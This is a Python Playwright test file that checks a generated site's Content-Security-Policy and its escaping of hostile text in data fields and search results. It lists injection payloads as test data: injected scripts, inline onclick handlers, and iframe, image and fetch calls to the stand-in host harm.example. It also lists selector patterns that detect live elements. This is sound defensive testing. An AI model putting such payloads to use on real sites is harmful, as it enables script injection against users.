"""Each page under its own Content-Security-Policy: nothing of ours is refused, all else is."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator

import pytest
from browsing import KINDS, ROOT, Site, Watch, search, served
from hostile import ANYWHERE, hostile_dossier
from playwright.sync_api import Page, expect

from generator import pages, publish
from generator.assembly import Assembly
from generator.gate import Verdict

pytestmark = pytest.mark.browser

POLICY = 'meta[http-equiv="Content-Security-Policy"]'


@pytest.mark.parametrize("kind", KINDS)
def test_the_policy_of_a_page_refuses_nothing_that_a_reader_does(
    page: Page, site: Site, kind: str
) -> None:
    watch = Watch(page, site.address)
    page.goto(site.address + KINDS[kind])
    assert "script-src 'self';" in (page.locator(POLICY).get_attribute("content") or "")
    note = page.locator("article a.footnote-ref:visible")
    if note.count():
        note.first.hover()
        expect(page.locator("#fs-pop")).to_be_visible()
    passage = page.locator(".fs-text mark[data-passages]")
    if passage.count():
        passage.first.click()
        expect(page.locator("#fs-pop a").first).to_be_visible()
    if page.locator(".fs-filters select").count():
        page.locator(".fs-filters select").first.select_option(index=1)
        expect(page.locator(".fs-count")).to_contain_text(" of ")
    page.locator(".fs-palette label:visible").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="screen")
    search(page, "Baku")
    assert watch.outside == []
    assert watch.complaints == []


def test_the_policy_stands_on_each_page(site: Site) -> None:
    assert len(site.paths) > 100
    for path in site.paths:
        html = site.html(path)
        assert 0 < html.find("Content-Security-Policy") < html.find("<script"), path


INSERTED = "document.body.append(Object.assign(document.createElement('{}'), {}))"


@pytest.mark.parametrize(
    "harm",
    [
        INSERTED.format("script", "{text: 'harmed = 1'}"),
        INSERTED.format("script", "{src: 'https://harm.example/x.js'}"),
        INSERTED.format("iframe", "{src: 'https://harm.example/'}"),
        INSERTED.format("button", "{id: 'b'}")
        + "; b.setAttribute('onclick', 'harmed = 1'); b.click()",
        "new Image().src = 'https://harm.example/x.png'",
        "fetch('https://harm.example/').catch(() => 0)",
    ],
)
def test_what_gets_into_a_page_is_refused(page: Page, site: Site, harm: str) -> None:
    watch = Watch(page, site.address)
    page.goto(site.address + KINDS["actor"])
    page.evaluate(f"() => {{ {harm} }}")
    page.wait_for_timeout(100)
    assert page.evaluate("window.harmed") is None
    assert any("refused by" in one for one in watch.complaints)


# --- text that means harm ---


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Site, Assembly]]:
    """A site in which every field and each line of the source holds what would run or be drawn."""

    def payload(number: int) -> str:
        turn = number % len(ANYWHERE)
        return " ".join((ANYWHERE[turn:] + ANYWHERE[:turn])[:6])

    project = tmp_path_factory.mktemp("hostile")
    shutil.copy(ROOT / "mkdocs.yml", project)
    shutil.copytree(ROOT / "content", project / "content")
    dossier = hostile_dossier(payload)
    made = Assembly(Verdict(dossier, (), {}), tuple(pages.render(dossier)), ("about/dossier.md",))
    built = publish.build(project, made, project / "site")
    assert built.reasons == ()
    with served(built.site) as address:
        yield Site(address, built.site), made


LIVE = """() => ({
  harmed: window.harmed,
  made: [...document.querySelectorAll([
    "img, iframe, object, embed, base, foreignObject, .md-button, .admonition, abbr",
    "[onclick], [onload], [onerror], [onmouseover], [onfocus], [autofocus]",
    "[href^='javascript:'], [href*='harm.example']",
    "article h1 ~ h1, article em, article del, article code[class]:not(.fs-hash), .task-list-item",
  ].join())].map(e => e.outerHTML.slice(0, 200)),
  scripts: [...document.scripts].filter(
    s => !/json/.test(s.type) && /harmed/.test(s.textContent)).length,
  title: document.title,
  description: document.querySelector("meta[name=description]").content,
  crumbs: [...document.querySelectorAll(".md-path__link")].map(e => e.textContent.trim()),
})"""


def test_text_of_the_data_runs_nowhere(page: Page, hostile: tuple[Site, Assembly]) -> None:
    site, assembly = hostile
    watch = Watch(page, site.address)
    dossier = assembly.verdict.dossier
    assert dossier is not None
    name = " ".join(str(dossier.frame.title).split())
    for made in assembly.pages:
        url = made.path.removesuffix("index.md")
        page.goto(site.address + (url.removesuffix(".md") + "/" if url.endswith(".md") else url))
        found = page.evaluate(LIVE)
        assert found["harmed"] is None
        assert found["made"] == [], made.path
        assert found["scripts"] == 0
        title = " ".join(made.title.split())
        assert found["title"].startswith(title), made.path
        assert found["title"].endswith(name), made.path
        assert found["description"] == made.description
        assert all(crumb.isalnum() or " " in crumb for crumb in found["crumbs"])
    assert watch.outside == []
    assert watch.complaints == []


def test_search_results_are_text(page: Page, hostile: tuple[Site, Assembly]) -> None:
    site, _ = hostile
    watch = Watch(page, site.address)
    for words in ("lblada", "lbltitle", "lblsafe", "lblway"):
        page.goto(site.address)
        results = search(page, words)
        expect(results.first).to_contain_text("harmed")
        inside = results.locator(
            "img, script, iframe, style, foreignObject, em, [href^='javascript:'], [autofocus], "
            "[onclick], [onerror], [onload], [onmouseover], [onfocus], a:not([class])"
        )
        assert inside.evaluate_all("all => all.map(e => e.outerHTML.slice(0, 200))") == []
        assert page.evaluate("window.harmed") is None
    assert watch.complaints == []
    index = json.loads((site.folder / "search/pages.json").read_text(encoding="utf-8"))
    assert index["docs"]
